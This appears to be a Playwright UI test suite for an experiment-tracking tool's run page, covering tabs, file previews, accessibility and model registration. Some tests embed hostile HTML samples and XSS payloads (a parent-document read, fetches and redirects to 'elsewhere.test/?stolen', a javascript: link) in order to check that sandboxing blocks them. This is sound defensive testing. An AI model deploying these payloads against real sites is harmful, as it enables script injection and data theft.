"""The page of a run in a real browser: its tabs, its files, a hostile page of HTML, and the way to other runs."""

from __future__ import annotations

import base64
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Route, expect

from jtrack import tracking
from jtrack.entities import RunKind, RunStatus
from jtrack.registry.listing import get_model_version
from jtrack.widgets.run_page.model import RunModel
from tests.ui.side import accessibility_faults
from tests.waiting import wait_until
from tests.widgets.logged_runs import log_cell_run
from tests.widgets.panel_page import PanelPage
from tests.widgets.registered_models import log_model_run
from tests.widgets.test_card import NASTY

pytestmark = [pytest.mark.ui, pytest.mark.usefixtures("store_path")]

Show = Callable[..., PanelPage]
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HOSTILE = """<!doctype html><title>x</title><h1 id="said">quiet</h1>
<script>
let reached = 'nothing';
try { reached = parent.document.title; } catch (error) { reached = 'refused ' + origin; }
document.getElementById('said').textContent = reached;
fetch('http://elsewhere.test/').catch(() => undefined);
</script>
<img src="http://elsewhere.test/pixel.png"><iframe src="http://elsewhere.test/frame"></iframe>
<form action="http://elsewhere.test/post"><button>send</button></form>"""
# What the browser says of a page that was kept from running scripts or reaching the network is what is wanted.
KEPT_OUT = re.compile(r"Content Security Policy|Blocked script execution|sandboxed")


@pytest.fixture
def elsewhere() -> list[str]:
    """Addresses at another host that were really asked for."""
    return []


@pytest.fixture
def show(browser: Browser, elsewhere: list[str]) -> Iterator[Show]:
    """Shows the page of a run; at the end nothing may have gone wrong there, nor any other host been asked."""
    pages: list[PanelPage] = []

    def answer(route: Route) -> None:
        elsewhere.append(route.request.url)
        route.fulfill(status=204, headers={"Access-Control-Allow-Origin": "*"})

    def open_page(run_id: str, methods: Mapping[str, Any] | None = None, **context: object) -> PanelPage:
        model = RunModel(run_id)
        shown = PanelPage(browser, model.frame, {**model.methods, **(methods or {})}, **context)
        # Not the event "request", which tells of those too that the page's policy held back.
        shown.page.route("http://elsewhere.test/**", answer)
        shown.page.locator(".jt-run-page").wait_for()
        pages.append(shown)
        return shown

    yield open_page
    errors = [error for page in pages for error in page.errors if not KEPT_OUT.search(error)]
    for page in pages:
        page.close()
    assert (errors, elsewhere) == ([], [])


def log_full_run() -> str:
    log_cell_run("first", {"lr": 0.1, "depth": 4}, {"val_loss": [0.9, 0.5, 0.4], "acc": 0.8})
    source = "# **tuned**\nmodel = fit(lr=0.03)\nprint('done')\n"
    run_id = log_cell_run("second", {"lr": 0.03, "depth": 4}, {"val_loss": [0.9, 0.4, 0.3], "acc": 0.9}, source=source)
    with tracking.start_run(run_id=run_id) as run:
        run.set_attributes(description="Try **less**.\n\n- [notes](https://example.org)")
        run.log_dict({"classes": ["a", "b"], "n": 12345678901234567890}, "report.json")
        run.log_text("name,value\nx,1\ny,2\n", "table.csv")
        run.log_text(HOSTILE, "report.html")
        (run.artifact_path.parent / "dot.png").write_bytes(PIXEL)
        run.log_artifact(run.artifact_path.parent / "dot.png", "plots")
        run.note("looks noisy")
        for i in range(3):
            with tracking.start_run(run_name=f"trial-{i}", nested=True, kind=RunKind.TRIAL) as trial:
                trial.log_metric("acc", 0.8 + i / 100)
    return run_id


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_tab_draws_what_the_run_has_and_the_panel_keeps_its_height(show: Show, scheme: str) -> None:
    shown = show(log_full_run(), color_scheme=scheme)
    page = shown.page
    panel = page.locator(".jt-run-page")
    height = panel.bounding_box()["height"]
    expected = {
        "overview": "Try less.",
        "metrics": "val_loss",
        "params": "lr",
        "code": "model = fit(lr=0.03)",
        "files": "plots/",
        "lineage": "trial-2",
        "history": "looks noisy",
    }
    assert page.get_by_role("tab").all_inner_texts() != []
    for name, text in expected.items():
        page.get_by_role("tab", name=name).click()
        expect(page.get_by_role("tabpanel", name=name)).to_contain_text(text)
        assert panel.bounding_box()["height"] == height
        shown.screenshot(f"run-{name}-{scheme}")


def test_how_long_ago_a_run_began_stays_true_in_an_open_page(show: Show) -> None:
    page = show(log_cell_run("first", {}, {"loss": 0.5})).page
    page.clock.install()
    page.reload()
    began = page.locator(".jt-head time")
    expect(began).to_have_text(re.compile("now|s ago"))
    page.clock.fast_forward("05:00")
    expect(began).to_have_text("5 min ago")


def test_arrow_keys_walk_the_tabs(show: Show) -> None:
    page = show(log_full_run()).page
    page.get_by_role("tab", name="overview").focus()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_role("tab", name="metrics")).to_be_focused()
    expect(page.get_by_role("tab", name="metrics")).to_have_attribute("aria-selected", "true")
    page.keyboard.press("End")
    expect(page.get_by_role("tab", name="history")).to_be_focused()


def test_a_click_on_a_metric_draws_its_curve(show: Show) -> None:
    shown = show(log_full_run())
    page = shown.page
    page.get_by_role("tab", name="metrics").click()
    page.get_by_role("button", name="val_loss").click()
    expect(page.locator("figcaption")).to_contain_text("val_loss")
    expect(page.locator(".jt-curve path")).to_have_count(1)
    assert page.get_by_role("button", name="acc").count() == 0, "a metric of one point has no curve"


def test_files_are_shown_as_what_they_are(show: Show) -> None:
    page = show(log_full_run()).page
    page.get_by_role("tab", name="files").click()
    image = page.locator(".jt-preview img")
    image.wait_for()
    assert image.evaluate("node => node.naturalWidth") == 1
    page.locator(".jt-file", has_text="report.json").click()
    expect(page.locator(".jt-json")).to_contain_text("12345678901234567890")
    page.locator(".jt-file", has_text="table.csv").click()
    expect(page.locator(".jt-data tbody tr")).to_have_count(2)


def test_a_page_of_html_has_no_scripts_no_network_and_no_way_to_this_page(show: Show, elsewhere: list[str]) -> None:
    page = show(log_full_run()).page
    page.get_by_role("tab", name="files").click()
    page.locator(".jt-file", has_text="report.html").click()
    said = page.frame_locator(".jt-sandbox").frame_locator("iframe").locator("#said")
    expect(said).to_have_text("quiet")
    sandbox = page.locator(".jt-sandbox")
    expect(sandbox).to_have_attribute("sandbox", "")
    page.get_by_role("button", name="run its scripts").click()
    expect(said).to_have_text("refused null")
    expect(sandbox).to_have_attribute("sandbox", "allow-scripts")
    assert elsewhere == []
    page.evaluate("() => fetch('http://elsewhere.test/asked')")
    assert elsewhere == ["http://elsewhere.test/asked"], "a request that nothing holds back is seen here"
    elsewhere.clear()


@pytest.mark.parametrize(
    "way",
    [
        '<script>location = "http://elsewhere.test/?stolen"</script>',
        '<svg onload="location.assign(`http://elsewhere.test/?stolen`)">',
        '<meta http-equiv="refresh" content="0; url=http://elsewhere.test/"><script></script>',
        '<a href="http://elsewhere.test/">there</a><script>document.querySelector("a").click()</script>',
    ],
)
def test_a_page_of_html_leads_its_frame_to_no_other_host(show: Show, way: str) -> None:
    with tracking.start_run(run_name="leaver") as run:
        run.log_text(f"<p id=said>here</p>{way}", "report.html")
    page = show(run.run_id).page
    page.get_by_role("tab", name="files").click()
    page.get_by_role("button", name="run its scripts").click()
    # Kept from where it wanted to go, the frame is empty.
    expect(page.frame_locator(".jt-sandbox").frame_locator("iframe").locator("#said")).to_have_count(0)


def test_a_link_to_a_place_in_a_page_of_html_leads_there(show: Show) -> None:
    with tracking.start_run(run_name="long") as run:
        run.log_text(
            "<a href='#end'>to the end</a><div style='height: 4000px'></div><p id=end>the end</p>", "long.html"
        )
    page = show(run.run_id).page
    page.get_by_role("tab", name="files").click()
    shown = page.frame_locator(".jt-sandbox").frame_locator("iframe")
    shown.get_by_text("to the end").click()
    expect(shown.locator("#end")).to_be_in_viewport()


def test_a_download_is_of_no_type_that_a_browser_would_show(show: Show) -> None:
    page = show(log_full_run()).page
    page.get_by_role("tab", name="files").click()
    page.locator(".jt-file", has_text="report.html").click()
    with page.expect_download() as waiting:
        page.get_by_role("button", name="download").click()
    assert waiting.value.suggested_filename == "report.html"
    assert waiting.value.path().read_text() == HOSTILE


def test_a_download_is_of_the_file_that_was_chosen_before_its_preview_is_there(show: Show) -> None:
    page = show(log_full_run()).page
    page.get_by_role("tab", name="files").click()
    page.get_by_role("region", name="preview").get_by_role("img").wait_for()
    page.evaluate(
        """() => {
            const answer = window.answer;
            const never = new Promise(() => {});
            window.answer = content => JSON.parse(content).method === 'preview' ? never : answer(content);
        }"""
    )
    page.locator(".jt-file", has_text="report.html").click()
    with page.expect_download() as waiting:
        page.get_by_role("button", name="download").click()
    assert waiting.value.suggested_filename == "report.html"


def test_related_runs_open_in_place_and_lead_back(show: Show) -> None:
    shown = show(log_full_run())
    page = shown.page
    page.get_by_role("tab", name="lineage").click()
    page.get_by_role("button", name="trial-1").click()
    expect(page.locator(".jt-head .jt-name")).to_have_text("trial-1")
    page.get_by_role("button", name="← second").click()
    expect(page.locator(".jt-head .jt-name")).to_have_text("second")
    page.get_by_role("tab", name="overview").click()
    page.get_by_role("button", name="first", exact=True).click()
    expect(page.locator(".jt-head .jt-name")).to_have_text("first")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_in_any_tab(show: Show, scheme: str) -> None:
    page = show(log_full_run(), color_scheme=scheme).page
    tabs = page.get_by_role("tab")
    for name in tabs.all():
        name.click()
        page.locator(".jt-tab-body .jt-page-part > *").first.wait_for()
        page.wait_for_function("() => !document.querySelector('.jt-tab-body [role=status]:not(.jt-readout)')")
        assert accessibility_faults(page, "body") == [], name.inner_text()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_model_of_a_run_is_registered_from_its_page(show: Show, scheme: str) -> None:
    without = show(log_full_run()).page
    expect(without.locator(".jt-about")).to_contain_text("started")
    assert without.get_by_role("button", name="register", exact=True).count() == 0
    run_id = log_model_run("calm-ibis")
    shown = show(run_id, color_scheme=scheme)
    page = shown.page
    height = page.locator(".jt-run-page").bounding_box()["height"]
    page.get_by_role("button", name="register", exact=True).click()
    name = page.get_by_label("name of the registered model")
    expect(name).to_be_focused()
    assert page.locator(".jt-run-page").bounding_box()["height"] == height
    assert accessibility_faults(page, "body") == []
    shown.screenshot(f"run-register-{scheme}")
    name.fill("bad/name")
    name.press("Enter")
    expect(page.get_by_role("alert")).to_contain_text("bad/name")
    expect(name).to_have_value("bad/name")
    shown.screenshot(f"run-register-fault-{scheme}")
    name.fill("ibis")
    page.get_by_role("button", name="register", exact=True).click()
    expect(page.get_by_text("registered as ibis, version 1")).to_be_visible()
    expect(page.locator(".jt-about")).to_contain_text("ibis 1")
    assert get_model_version("ibis", 1).run_id == run_id


def test_a_fault_stands_in_the_place_of_the_part(show: Show) -> None:
    run_id = log_full_run()
    page = show(run_id).page
    page.get_by_role("tab", name="files").click()
    page.locator(".jt-preview").wait_for()
    (Path(RunModel(run_id).frame.artifact_uri) / "table.csv").unlink()
    page.locator(".jt-file", has_text="table.csv").click()
    expect(page.get_by_role("alert")).to_contain_text("table.csv")


def test_a_file_that_grows_is_read_on_from_where_one_is(show: Show) -> None:
    with tracking.start_run(run_name="talker") as run:
        lines = [f"epoch {i}" for i in range(200)]
        run.log_text("\n".join(lines), "stdout.txt")
        shown = show(run.run_id)
        page = shown.page
        page.get_by_role("tab", name="files").click()
        body = page.get_by_role("tabpanel")

        def grow() -> None:
            lines.extend([f"epoch {len(lines) + i}" for i in range(50)])
            run.log_text("\n".join(lines), "stdout.txt")
            shown.push(RunModel(run.run_id).frame)
            expect(body).to_contain_text(lines[-1])

        body.get_by_text(lines[-1]).wait_for()
        body.evaluate("body => { body.scrollTop = 100 }")
        grow()
        assert body.evaluate("body => body.scrollTop") == 100
        body.evaluate("body => { body.scrollTop = body.scrollHeight }")
        grow()
        # Who reads at the end goes on reading at the end.
        assert body.evaluate("body => body.scrollHeight - body.scrollTop - body.clientHeight") < 2


def test_a_file_chosen_while_another_is_read_anew_is_the_one_that_is_shown(show: Show) -> None:
    with tracking.start_run(run_name="talker") as run:
        run.log_text("epoch 0\n", "stdout.txt")
        run.log_text("remember this", "notes.txt")
        shown = show(run.run_id)
        page = shown.page
        page.get_by_role("tab", name="files").click()
        page.get_by_role("button", name="stdout.txt").click()
        preview = page.locator(".jt-beside")
        expect(preview).to_contain_text("epoch 0")
        page.evaluate("""() => {
          const answer = window.answer;
          window.answer = content => /preview.*stdout/.test(content)
            ? new Promise(resolve => { window.release = () => resolve(answer(content)); }) : answer(content);
        }""")
        run.log_text("epoch 0\nepoch 1\n", "stdout.txt")
        shown.push(RunModel(run.run_id).frame)
        page.wait_for_function("() => window.release")
        page.get_by_role("button", name="notes.txt").click()
        expect(preview).to_contain_text("remember this")
        page.evaluate("() => window.release()")
        page.wait_for_function("() => document.querySelector('.jt-file-list').textContent.includes('16 B')")
        expect(preview).to_contain_text("remember this")
        expect(page.get_by_role("button", name="notes.txt")).to_have_attribute("aria-pressed", "true")


def test_text_that_is_selected_stays_until_it_is_let_go(show: Show) -> None:
    with tracking.start_run(run_name="talker") as run:
        run.log_text("epoch 0\n", "stdout.txt")
        shown = show(run.run_id)
        page = shown.page
        page.get_by_role("tab", name="files").click()
        preview = page.locator(".jt-beside pre")
        expect(preview).to_contain_text("epoch 0")
        preview.select_text()
        for step in (1, 2):
            run.log_text("".join(f"epoch {i}\n" for i in range(step + 1)), "stdout.txt")
            n_asked = shown.asked.count("preview")
            shown.push(RunModel(run.run_id).frame)
            assert wait_until(lambda n=n_asked: page.evaluate("1") and shown.asked.count("preview") > n)
        assert page.evaluate("() => String(getSelection()).trim()") == "epoch 0"
        page.evaluate("() => getSelection().empty()")
        expect(preview).to_contain_text("epoch 2")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_part_that_could_not_be_read_can_be_tried_again(show: Show, scheme: str) -> None:
    run_id = log_full_run()
    faults = [OSError("the server went away")]

    def events(run_id: str) -> object:
        if faults:
            raise faults.pop()
        return RunModel(run_id).methods["events"](run_id=run_id)

    shown = show(run_id, {"events": events}, color_scheme=scheme)
    page = shown.page
    page.get_by_role("tab", name="history").click()
    expect(page.get_by_role("alert")).to_contain_text("the server went away")
    assert accessibility_faults(page, "body") == []
    shown.screenshot(f"run-part-fault-{scheme}")
    page.get_by_role("button", name="try again").click()
    page.locator(".jt-page-history .jt-events").wait_for()
    expect(page.get_by_role("alert")).to_have_count(0)


def test_a_failed_run_shows_its_error_and_nasty_text_stays_text(show: Show) -> None:
    nasty = NASTY.encode("utf-8", "replace").decode()
    run_id = log_cell_run(nasty, {"p": nasty}, source=nasty, status=RunStatus.FAILED, error=f"Traceback\n{nasty}")
    with tracking.start_run(run_id=run_id) as run:
        run.set_attributes(description=f"{nasty} [x](javascript:alert(1))")
        run.log_dict({nasty: nasty}, "a.json")
        run.end(RunStatus.FAILED)
    shown = show(run_id)
    page = shown.page
    page.on("dialog", lambda dialog: shown.errors.append(f"dialog {dialog.message}"))
    expect(page.locator(".jt-trace")).to_contain_text("<script>")
    for name in ("params", "code", "files", "history"):
        page.get_by_role("tab", name=name).click()
        page.wait_for_function("() => !document.querySelector('.jt-tab-body [role=status]:not(.jt-readout)')")
    assert page.locator("script:not([type=module]), [onerror]").count() == 0
    assert page.locator("a[href^=javascript]").count() == 0
    shown.screenshot("run-failed")
